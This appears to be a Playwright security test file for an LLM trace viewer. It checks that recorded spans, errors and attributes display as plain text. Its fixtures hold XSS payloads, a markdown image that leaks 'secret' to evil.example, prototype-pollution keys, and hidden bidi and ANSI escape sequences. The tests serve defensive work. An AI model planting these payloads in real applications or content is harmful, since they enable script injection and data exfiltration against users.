import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures";
import { Recorder } from "./records";

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "</textarea></title><script>alert(1)</script>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "{{constructor.constructor('alert(1)')()}}",
  "[click](javascript:alert(1))",
  "![leak](https://evil.example/?q=secret)",
  "<style>*{display:none}</style>",
];
const HIDDEN = "safe\u202Egpj.exe\u200B\u001b[31m\u001b]8;;https://evil.example\u0007x";
const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "__proto__.polluted",
  "toString",
  "a.b",
  "a",
];

function hostileRun() {
  const all = MARKUP.join(" ");
  const recorder = new Recorder(all.slice(0, 400), {
    correlation_id: MARKUP[1],
    tags: [MARKUP[0], HIDDEN.slice(0, 40)],
    input: {
      value: Object.fromEntries(MARKUP.map((text) => [text, text])),
      codec: "json",
      fidelity: "exact",
    },
    attributes: Object.fromEntries([...KEYS, ...MARKUP].map((key) => [key, all])),
  });
  const error = {
    type: MARKUP[0],
    message: all,
    traceback: `${all}\n${HIDDEN}`,
    cause: { type: MARKUP[2], message: HIDDEN },
  };
  const attributes = JSON.parse(
    `{${KEYS.map((key) => `${JSON.stringify(key)}:"polluted"`).join()}}`,
  ) as object;
  const chat = recorder.span({
    name: MARKUP[1] ?? "",
    type: "LLM_CALL",
    atMs: 1,
    status: "ERROR",
    input: {
      messages: [
        { role: "<b>user</b>", content: all },
        { role: "user", content: HIDDEN },
      ],
    },
    output: all,
    fields: { model: MARKUP[2], error, attributes },
  });
  const documents = recorder.span({
    name: HIDDEN,
    type: "RETRIEVAL",
    atMs: 2,
    input: { query: all },
    output: { documents: [{ id: all, content: all, score: "<b>9</b>", [all]: all }] },
  });
  const decision = recorder.span({
    name: "x".repeat(500) + "\u0301".repeat(12),
    type: "DECISION",
    atMs: 3,
    input: { options: MARKUP },
    output: { chosen: MARKUP[0], reason: all },
  });
  const spans = [chat, documents, decision];
  return {
    runId: recorder.runId,
    ids: spans.map(({ id }) => id),
    records: [
      recorder.start(),
      ...spans.map(({ end }) => end),
      recorder.event(chat.id, MARKUP[0] ?? "", { html: all }, 5),
      recorder.end(10, "ERROR", { error }),
    ],
  };
}

/** Everything that would show that recorded text was obeyed. */
async function watch(page: Page, origin: string) {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => seen.push(`error ${error.message}`));
  page.on("request", (request) => {
    if (!request.url().startsWith(origin)) seen.push(`request ${request.url()}`);
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const violations = window as unknown as { violations?: string[] };
      violations.violations = [...(violations.violations ?? []), event.violatedDirective];
    });
  });
  return async () => {
    const violations = await page.evaluate(
      () => (window as unknown as { violations?: string[] }).violations ?? [],
    );
    return [...seen, ...violations.map((one) => `policy ${one}`)];
  };
}

test("recorded text is text, wherever it stands", async ({ page, server }) => {
  const run = hostileRun();
  await server.ingest(run.records);
  const findings = await watch(page, server.url);
  await page.goto(`/?correlation=${encodeURIComponent(MARKUP[1] ?? "")}`);
  await expect(page.locator(`[data-run="${run.runId}"]`)).toContainText(MARKUP[0] ?? "");
  await page.goto(`/runs/${run.runId}`);
  await expect(page.locator("[data-span]")).toHaveCount(3);
  await expect(page.getByTestId("error")).toContainText(MARKUP[4] ?? "");
  for (const id of run.ids) {
    for (const view of ["overview", "input", "output", "attributes", "events"]) {
      await page.goto(`/runs/${run.runId}?span=${id}&view=${view}`);
      await expect(page.locator(`[data-span="${id}"][aria-selected="true"]`)).toBeVisible();
      await expect(page.getByRole("tabpanel")).not.toBeEmpty();
      await expect(page.getByText("Loading…")).toHaveCount(0);
      expect(await findings()).toEqual([]);
    }
  }
  const polluted = await page.evaluate(() => ({}) as { polluted?: unknown });
  expect(polluted.polluted).toBeUndefined();
  expect(
    await page.locator("main img, main iframe, main script, main a[href^=javascript]").count(),
  ).toBe(0);
  expect(await page.title()).toContain("<script>alert(1)</script>");
});

test("what cannot be seen is marked", async ({ page, server }) => {
  const run = hostileRun();
  await server.ingest(run.records);
  await page.goto(`/runs/${run.runId}?span=${run.ids[1]}`);
  await expect(page.getByRole("heading", { level: 2 })).toHaveText(
    "safeU+202Egpj.exeU+200B U+001B[31mU+001B]8;;https://evil.exampleU+0007x",
  );
});

test("attributes of any name are shown as they are", async ({ page, server }) => {
  const run = hostileRun();
  await server.ingest(run.records);
  await page.goto(`/runs/${run.runId}?span=${run.ids[0]}&view=attributes`);
  for (const key of KEYS) {
    await expect(page.getByRole("tabpanel").getByText(key, { exact: true })).toBeVisible();
  }
});
